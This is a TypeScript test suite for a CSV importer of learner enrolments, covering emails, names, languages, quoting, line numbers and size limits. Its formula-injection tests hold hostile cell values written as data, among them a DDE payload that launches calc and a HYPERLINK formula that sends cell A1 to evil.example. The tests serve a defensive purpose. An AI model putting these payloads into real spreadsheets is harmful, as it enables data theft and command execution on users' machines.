import { describe, expect, it } from "vitest";
import { csvBytes, fileErrorKeys, importCsv, importRows, reasonsOn } from "./csv-helpers.js";

describe("enrolment files: email addresses", () => {
  it("lowercases and trims addresses", () => {
    expect(importRows("  Ana.Lima@Example.ORG ,Ana,").valid).toEqual([
      { line: 2, email: "ana.lima@example.org", name: "Ana", language: null },
    ]);
  });

  it.each([
    "ana",
    "ana@",
    "ana@example",
    "ana @example.org",
    "Ana Lima <ana@example.org>",
    "ana@@example.org",
    "ana..lima@example.org",
  ])("rejects %j as not an email address", (email) => {
    const result = importRows(`"${email}",Ana,`);
    expect(result.rejected[0]?.reasons).toEqual([{ key: "csv.row.emailInvalid", params: { line: 2, email } }]);
  });

  it("rejects a row without an address", () => {
    expect(importRows(",Ana,fr").rejected[0]?.reasons).toEqual([{ key: "csv.row.emailMissing", params: { line: 2 } }]);
  });

  it("rejects later occurrences of an address, naming the line of the first", () => {
    const result = importRows(
      "ana@example.org,Ana,",
      "bo@example.org,Bo,",
      "ANA@example.org,Ana again,",
      "ana@example.org,Ana thrice,",
    );
    expect(result.valid.map((r) => r.line)).toEqual([2, 3]);
    expect(result.rejected.map((r) => r.reasons)).toEqual([
      [{ key: "csv.row.duplicate", params: { line: 4, email: "ana@example.org", firstLine: 2 } }],
      [{ key: "csv.row.duplicate", params: { line: 5, email: "ana@example.org", firstLine: 2 } }],
    ]);
  });

  it("counts a duplicate even when the first occurrence is rejected for another reason", () => {
    const result = importRows("ana@example.org,Ana,xx", "ana@example.org,Ana,fr");
    expect(reasonsOn(result, 2)).toEqual(["csv.row.languageUnknown"]);
    expect(reasonsOn(result, 3)).toEqual(["csv.row.duplicate"]);
  });

  it("rejects addresses already in the cohort, ignoring case on both sides", () => {
    const result = importCsv(csvBytes("email,name", "ana@example.org,Ana", "bo@example.org,Bo"), {
      existingEmails: new Set(["Ana@Example.org "]),
    });
    expect(result.rejected).toEqual([
      {
        line: 2,
        cells: ["ana@example.org", "Ana"],
        reasons: [{ key: "csv.row.alreadyEnrolled", params: { line: 2, email: "ana@example.org" } }],
      },
    ]);
    expect(result.valid.map((r) => r.email)).toEqual(["bo@example.org"]);
  });
});

describe("enrolment files: names", () => {
  it("collapses spaces and line breaks inside a name", () => {
    expect(importRows('ana@example.org,"  Ana \n  Lima\u00a0 ",').valid[0]?.name).toBe("Ana Lima");
  });

  it("accepts names of up to 200 characters, counted as people count them", () => {
    expect(importRows(`a@example.org,${"a".repeat(200)},`).valid).toHaveLength(1);
    expect(importRows(`a@example.org,${"🌱".repeat(200)},`).valid).toHaveLength(1); // 400 UTF-16 units
    expect(importRows(`a@example.org,${"a".repeat(201)},`).rejected[0]?.reasons).toEqual([
      { key: "csv.row.nameTooLong", params: { line: 2, length: 201, max: 200 } },
    ]);
  });

  it("takes another limit on request", () => {
    const result = importCsv(csvBytes("email,name", `a@example.org,${"a".repeat(81)}`), { maxNameLength: 80 });
    expect(reasonsOn(result, 2)).toEqual(["csv.row.nameTooLong"]);
  });

  it("rejects a row without a name", () => {
    expect(importRows("a@example.org, ,fr").rejected[0]?.reasons).toEqual([
      { key: "csv.row.nameMissing", params: { line: 2 } },
    ]);
  });

  it("rejects control characters and bidirectional overrides, but keeps right-to-left marks", () => {
    expect(reasonsOn(importRows("a@example.org,Ana\u202eLima,"), 2)).toEqual(["csv.row.nameInvalidCharacters"]);
    expect(reasonsOn(importRows("a@example.org,Ana\u0007,"), 2)).toEqual(["csv.row.nameInvalidCharacters"]);
    expect(importRows("a@example.org,سارة\u200f حداد,ar").valid[0]?.name).toBe("سارة\u200f حداد");
  });

  it("keeps names with hyphens, apostrophes and quotes inside", () => {
    const result = importRows("a@example.org,Anne-Marie O'Brien,", 'b@example.org,Jean "Jo" Dupont,');
    expect(result.valid.map((r) => r.name)).toEqual(["Anne-Marie O'Brien", 'Jean "Jo" Dupont']);
  });
});

describe("enrolment files: languages", () => {
  it.each([
    ["fr", "fr"],
    ["FR", "fr"],
    [" fr ", "fr"],
    ["pt_br", "pt-BR"],
    ["PT-br", "pt-BR"],
    ["French", "fr"],
    ["français", "fr"],
    ["Francais", "fr"],
    ["Arabic", "ar"],
    ["العربية", "ar"],
    ["anglais", "en"], // English's name in French, an offered language
    ["", null],
  ])("reads %j as %j", (cell, code) => {
    expect(importRows(`a@example.org,Ana,${cell}`).valid[0]?.language).toBe(code);
  });

  it("rejects a language that is not offered, listing those that are", () => {
    expect(importRows("a@example.org,Ana,de").rejected[0]?.reasons).toEqual([
      { key: "csv.row.languageUnknown", params: { line: 2, language: "de", languages: "en, fr, ar, pt-BR" } },
    ]);
  });
});

describe("enrolment files: formula-looking cells", () => {
  it.each([
    ["name", 'a@example.org,"=HYPERLINK(""http://x.example"",""Go"")",', '=HYPERLINK("http://x.example","Go")'],
    ["name", "a@example.org,+33 6 12 34 56 78,", "+33 6 12 34 56 78"],
    ["name", "a@example.org,-Ana,", "-Ana"],
    ["name", "a@example.org,@Ana,", "@Ana"],
    ["name", "a@example.org,\"\t=cmd|' /C calc'!A0\",", "=cmd|' /C calc'!A0"],
    ["email", "=1+1@example.org,Ana,", "=1+1@example.org"],
    ["email", "+ana@example.org,Ana,", "+ana@example.org"],
    ["language", "a@example.org,Ana,=fr", "=fr"],
  ])("rejects a %s cell that a spreadsheet would run: %j", (column, row, value) => {
    const result = importRows(row);
    expect(result.valid).toEqual([]);
    expect(result.rejected[0]?.reasons).toEqual([{ key: "csv.row.formula", params: { line: 2, column, value } }]);
  });

  it("quotes a long cell cut short in the reason", () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const result = importRows(`a@example.org,"${formula.replaceAll('"', '""')}",`);
    expect(result.rejected[0]?.reasons[0]?.params?.value).toBe(`${formula.slice(0, 39)}…`);
    expect(result.rejected[0]?.cells[1]).toBe(formula);
  });

  it("shows the cell as written and strips nothing", () => {
    const result = importRows("a@example.org,=SUM(A1:A9),fr");
    expect(result.rejected[0]?.cells).toEqual(["a@example.org", "=SUM(A1:A9)", "fr"]);
  });

  it("names the column as the file's header does", () => {
    const result = importCsv(csvBytes("Courriel;Nom", "a@example.org;=1+1"));
    expect(result.rejected[0]?.reasons[0]?.params).toMatchObject({ column: "Nom" });
  });

  it("does not mind the characters later in a cell", () => {
    expect(importRows("ana-lima+cohort@example.org,Ana = Lima - @home,").valid).toHaveLength(1);
  });
});

describe("enrolment files: rows and lines", () => {
  it("reports every reason of a row at once", () => {
    expect(reasonsOn(importRows("not-an-address,,xx"), 2)).toEqual([
      "csv.row.emailInvalid",
      "csv.row.nameMissing",
      "csv.row.languageUnknown",
    ]);
  });

  it("skips empty lines, whitespace lines and separator-only lines, keeping line numbers", () => {
    const result = importCsv(Buffer.from("email,name\r\n\r\n   \r\n,\r\n\u00a0,\r\na@example.org,Ana\r\n\r\n"));
    expect(result.valid).toEqual([{ line: 6, email: "a@example.org", name: "Ana", language: null }]);
    expect(result.rejected).toEqual([]);
  });

  it("reads quoted fields holding separators, quotes and line breaks, numbering lines as the file does", () => {
    const result = importCsv(
      csvBytes(
        "email,name",
        'a@example.org,"Dupont, Jean"',
        'b@example.org,"Maria\r\nDos\r\nSantos"',
        "c@example.org,Cy",
      ),
    );
    expect(result.valid.map((r) => [r.line, r.name])).toEqual([
      [2, "Dupont, Jean"],
      [3, "Maria Dos Santos"],
      [6, "Cy"],
    ]);
  });

  it("rejects rows with too few cells, without judging shifted values", () => {
    expect(importRows("a@example.org,Ana").rejected[0]?.reasons).toEqual([
      { key: "csv.row.tooFewColumns", params: { line: 2, expected: 3, found: 2 } },
    ]);
  });

  it("rejects rows with too many cells (an unquoted comma in a name)", () => {
    expect(importRows("a@example.org,Dupont, Jean,fr").rejected[0]?.reasons).toEqual([
      { key: "csv.row.tooManyColumns", params: { line: 2, expected: 3, found: 4 } },
    ]);
  });

  it("tolerates empty cells past the last column (trailing separators)", () => {
    expect(importRows("a@example.org,Ana,fr,,").valid).toHaveLength(1);
  });

  it("refuses a file whose quotes do not close, pointing at the line where the cell starts", () => {
    const result = importRows("a@example.org,Ana,fr", "", 'b@example.org,"Bo,fr', "c@example.org,Cy,fr");
    expect(result.fileErrors).toEqual([{ key: "csv.file.badQuotes", params: { line: 4 } }]);
    expect(result).toMatchObject({ valid: [], rejected: [] });
  });

  it("refuses text after a closing quote", () => {
    expect(importRows('a@example.org,"Ana" Lima,fr').fileErrors).toEqual([
      { key: "csv.file.badQuotes", params: { line: 2 } },
    ]);
  });

  it("keeps a quote inside an unquoted cell as text", () => {
    expect(importRows('a@example.org,Ana "Nana" Lima,fr').valid[0]?.name).toBe('Ana "Nana" Lima');
  });
});

describe("enrolment files: size", () => {
  const learners = (count: number): Buffer =>
    csvBytes(
      "email,name,language",
      ...Array.from({ length: count }, (_, i) => `learner${i}@example.org,"Learner ${i}, Ségolène",fr`),
    );

  // Its speed is measured in the benchmarks (npm run bench), not here: a timed test fails on a busy machine.
  it("enrols 10,000 rows", () => {
    const result = importCsv(learners(10_000), { existingEmails: new Set(["someone@example.org"]) });
    expect(result.valid).toHaveLength(10_000);
    expect(result.valid.at(-1)).toEqual({
      line: 10_001,
      email: "learner9999@example.org",
      name: "Learner 9999, Ségolène",
      language: "fr",
    });
  });

  it("refuses more than 10,000 data rows as a whole, saying how many there are", () => {
    const result = importCsv(learners(10_001));
    expect(result.fileErrors).toEqual([{ key: "csv.file.tooManyRows", params: { found: 10_001, max: 10_000 } }]);
    expect(result).toMatchObject({ valid: [], rejected: [] });
  });

  it("takes another limit on request, not counting blank lines", () => {
    expect(
      fileErrorKeys(importCsv(csvBytes("email,name", "a@example.org,A", "", "b@example.org,B"), { maxRows: 2 })),
    ).toEqual([]);
    expect(
      fileErrorKeys(
        importCsv(csvBytes("email,name", "a@example.org,A", "b@example.org,B", "c@example.org,C"), { maxRows: 2 }),
      ),
    ).toEqual(["csv.file.tooManyRows"]);
  });
});
